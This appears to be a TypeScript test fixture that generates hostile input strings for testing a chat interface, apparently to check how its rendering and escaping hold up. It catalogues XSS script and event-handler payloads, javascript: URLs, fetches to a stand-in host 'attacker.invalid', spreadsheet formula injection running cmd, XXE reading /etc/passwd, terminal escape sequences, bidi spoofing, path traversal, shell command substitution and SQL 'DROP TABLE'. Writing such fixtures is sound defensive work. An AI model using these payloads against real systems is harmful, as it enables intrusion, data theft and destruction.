/**
 * Strings as an attacker would write them into a chat, a name or a subject. Where one of them is run as a script it calls
 * `TRAP(number)`; where one is fetched it asks for something at `HOST`; in a terminal it would move, colour or answer; in
 * a spreadsheet it would be a formula.
 */
export interface Hostile {
  readonly kind: Kind;
  readonly text: string;
}

export type Kind = keyof typeof ATTACKS;

/** The global function that a script among them would call. */
export const TRAP = "hostileRan";

/** The host that a link, an image or a style among them would ask; a name reserved for never being one (RFC 2606). */
export const HOST = "attacker.invalid";

type Attack = (n: number) => string;

const ran = (n: number) => `${TRAP}(${n})`;

const ATTACKS = {
  script: [
    (n) => `<script>${ran(n)}</script>`,
    (n) => `</script><script>${ran(n)}</script>`,
    (n) => `<ScRiPt/x>${ran(n)}</sCrIpT >`,
    (n) => `</title></textarea></style></noscript></template><script>${ran(n)}</script>`,
    (n) => `<script src="https://${HOST}/${n}.js"></script>`,
    (n) => `<script type="module">${ran(n)}</script>`,
    (n) => `<svg><script>${ran(n)}</script></svg>`,
    (n) => `<math><mtext><mglyph><style><!--</style><img title="--><script>${ran(n)}</script>">`,
    (n) => `<!--<script>${ran(n)}//`,
    (n) => `--><script>${ran(n)}</script><!--`,
    (n) => `]]><script>${ran(n)}</script><![CDATA[`,
    (n) => `</script\n><script\n>${ran(n)}</script\n>`,
    (n) => `<scr<script>ipt>${ran(n)}</scr</script>ipt>`,
    (n) => `";${ran(n)};//`,
    (n) => `'-${ran(n)}-'`,
    (n) => `\\";${ran(n)};//`,
    (n) => `\u2028${ran(n)}//`,
  ],
  handler: [
    (n) => `<img src=x onerror=${ran(n)}>`,
    (n) => `<svg onload=${ran(n)}>`,
    (n) => `" onmouseover="${ran(n)}" x="`,
    (n) => `' onfocus='${ran(n)}' autofocus tabindex='1`,
    (n) => `<body onload="${ran(n)}">`,
    (n) => `<input autofocus onfocus=${ran(n)}>`,
    (n) => `<details open ontoggle=${ran(n)}>`,
    (n) => `<video><source onerror=${ran(n)}></video>`,
    (n) => `<marquee onstart=${ran(n)}>`,
    (n) => `<a style="animation-name:x" onanimationstart=${ran(n)}>`,
    (n) => `<img/src='x'/onerror='${ran(n)}'/>`,
    (n) => `<div onpointerenter=${ran(n)} style="position:fixed;inset:0">`,
    (n) => `\`onclick=${ran(n)}\``,
  ],
  url: [
    (n) => `javascript:${ran(n)}`,
    (n) => `JaVaScRiPt:${ran(n)}//https://`,
    (n) => `java\tscript:${ran(n)}`,
    (n) => `\u0001javascript:${ran(n)}`,
    (n) => `data:text/html,<script>${ran(n)}</script>`,
    (n) => `vbscript:${ran(n)}`,
    (n) => `<a href="javascript:${ran(n)}">here</a>`,
    (n) => `<iframe src="javascript:${ran(n)}"></iframe>`,
    (n) => `<iframe srcdoc="<script>${ran(n)}</script>"></iframe>`,
    (n) => `<form action="javascript:${ran(n)}"><button>Send</button></form>`,
    (n) => `<object data="javascript:${ran(n)}"></object>`,
    (n) => `<base href="https://${HOST}/${n}/">`,
    (n) => `<meta http-equiv="refresh" content="0;url=https://${HOST}/${n}">`,
    (n) => `//${HOST}/${n}`,
    (n) => `#/conversations/<img src=x onerror=${ran(n)}>`,
  ],
  fetch: [
    (n) => `<img src="https://${HOST}/${n}.png">`,
    (n) => `<link rel="stylesheet" href="https://${HOST}/${n}.css">`,
    (n) => `<style>@import "https://${HOST}/${n}.css";</style>`,
    (n) => `</style><img src="https://${HOST}/${n}">`,
    (n) => `}body{background:url(https://${HOST}/${n})}`,
    (n) => `;background:url(https://${HOST}/${n})`,
    (n) => `<video src="https://${HOST}/${n}.mp4" autoplay></video>`,
    (n) => `<svg><image href="https://${HOST}/${n}.svg"/></svg>`,
    (n) => `<link rel="prefetch" href="https://${HOST}/${n}">`,
    (n) => `<embed src="https://${HOST}/${n}">`,
    (n) => `<form><button formaction="https://${HOST}/${n}">Go</button></form>`,
  ],
  template: [
    (n) => `\${${ran(n)}}`,
    (n) => `{{${ran(n)}}}`,
    (n) => `{{constructor.constructor('${ran(n)}')()}}`,
    (n) => `<%= ${ran(n)} %>`,
    (n) => `#{${ran(n)}}`,
    (n) => `{% if ${ran(n)} %}`,
    (n) => `$& $\` $' $1 $<name> ${n}`,
    (n) => `%s %d %n %x ${n}`,
    (n) => `\\u003cscript\\u003e${ran(n)}\\u003c/script\\u003e`,
    (n) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${ran(n)}>"}}`,
  ],
  markup: [
    (n) => `[click](javascript:${ran(n)})`,
    (n) => `![image](https://${HOST}/${n}.png)`,
    (n) => `<https://${HOST}/${n}>`,
    (n) => `| a | b |\n|---|---|\n| ${n} | x |`,
    (n) => `\`\`\`\n</script>${n}\n\`\`\``,
    (n) => `# Heading ${n}`,
    (n) => `- [ ] ${n}`,
    (n) => `[ref]: https://${HOST}/${n}`,
    (n) => `&lt;script&gt;${ran(n)}&lt;/script&gt;`,
    (n) => `&#60;img src=x onerror=${ran(n)}&#62;`,
    (n) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${n}</x>`,
    (n) => `_x003C_b_x003E_ ${n}`,
    (n) => `]]> ${n} <![CDATA[`,
    (n) => `@everyone #${n} ~~~`,
  ],
  formula: [
    (n) => `=${n}+1`,
    (n) => `=HYPERLINK("https://${HOST}/${n}","Open")`,
    (n) => `=cmd|' /C calc ${n}'!A0`,
    (n) => `=WEBSERVICE("https://${HOST}/${n}")`,
    (n) => `=IMPORTXML("https://${HOST}/${n}","//a")`,
    (n) => `+${n}+cmd|' /C calc'!A0`,
    (n) => `-${n}+cmd|' /C calc'!A0`,
    (n) => `@SUM(${n},1)`,
    (n) => `\t=${n}+1`,
    (n) => `\r=${n}+1`,
    (n) => `\n=${n}+1`,
    (n) => `＝${n}+1`,
    (n) => `"=${n}+1`,
    (n) => `'=${n}+1`,
    (n) => `;=${n}+1`,
    (n) => `${n},=1+1,"x`,
    (n) => `%00=${n}+1`,
  ],
  terminal: [
    (n) => `\u001b[2J\u001b[H${n}`,
    (n) => `\u001b[31mred ${n}\u001b[0m`,
    (n) => `\u001b]8;;https://${HOST}/${n}\u0007link\u001b]8;;\u0007`,
    (n) => `\u001b]52;c;ZXZpbA==\u0007${n}`,
    (n) => `\u001b]0;title ${n}\u0007`,
    (n) => `\u009b31m ${n}`,
    (n) => `\u001bP+q544e\u001b\\${n}`,
    (n) => `\u001b[6n${n}`,
    (n) => `\u0007\u0007 ${n}`,
    (n) => `over ${n}\rwritten`,
    (n) => `gone ${n}\b\b\b\b`,
    (n) => `\u001b(0 lines ${n}`,
    (n) => `\u0000null ${n}\u0000`,
    (n) => `\u007f\u0085\u0090 ${n}`,
  ],
  direction: [
    (n) => `\u202egnp.${n}exe`,
    (n) => `\u202d${n}\u202c left`,
    (n) => `\u2066${n}\u2069 \u2067x`,
    (n) => `\u200f${n}\u200e`,
    (n) => `\u061c${n}`,
    (n) => `שלום ${n} <b>`,
    (n) => `مرحبا ${n} \u202e`,
    (n) => `Zoe\u0308\u0336\u0336\u0336\u0336\u0336\u0336\u0336\u0336 ${n}`,
    (n) => `a\u200bd\u200cm\u200di\ufeffn ${n}`,
    (n) => `\ud800 ${n} \udc00`,
    (n) => `\ufffe\uffff ${n}`,
    (n) => `\u2028${n}\u2029`,
  ],
  name: [
    () => "__proto__",
    () => "constructor",
    () => "toString",
    () => "hasOwnProperty",
    () => "prototype",
    () => "null",
    () => "undefined",
    () => "NaN",
    (n) => `../../etc/passwd/${n}`,
    (n) => `..\\..\\boot.ini ${n}`,
    (n) => `C:\\CON\\${n}`,
    (n) => `%2e%2e%2f${n}`,
    (n) => `%E0%A4%A ${n}`,
    (n) => `a/b?c=d&e=f#${n}`,
    (n) => `"quoted" 'name' ${n}`,
    (n) => ` ${n} `,
    (n) => `-rf ${n}`,
    (n) => `$(touch ${n}) ; \`id\``,
    (n) => `'; DROP TABLE agents; -- ${n}`,
  ],
} satisfies Record<string, readonly Attack[]>;

/** How an attack is dressed up. The first leaves it as it is. */
const DRESSES: readonly ((text: string, n: number) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text, n) => `Thanks ${n}! ${text} Bye.`,
  (text) => `*/ --> ]]> ${text} <!-- <![CDATA[ /*`,
  (text) => `\u0000${text}\u0000`,
  (text) => text.replace(/</g, "<\u0000"),
  (text) => `\u202e${text}`,
  (text) => `${text}${text}`,
];

/** So many hostile strings, always the same: every kind in turn, no two alike. At most about 1,100 are known. */
export function hostileStrings(count = 1_000): readonly Hostile[] {
  const all = [...everyAttack()].slice(0, count);
  if (all.length < count) throw new Error(`only ${all.length} hostile strings are known`);
  return all;
}

function* everyAttack(): Generator<Hostile> {
  const seen = new Set<string>();
  for (const dress of DRESSES)
    for (const [kind, attacks] of Object.entries(ATTACKS) as [Kind, readonly Attack[]][])
      for (const attack of attacks) {
        const text = dress(attack(seen.size), seen.size);
        if (!seen.has(text)) yield { kind, text };
        seen.add(text);
      }
}
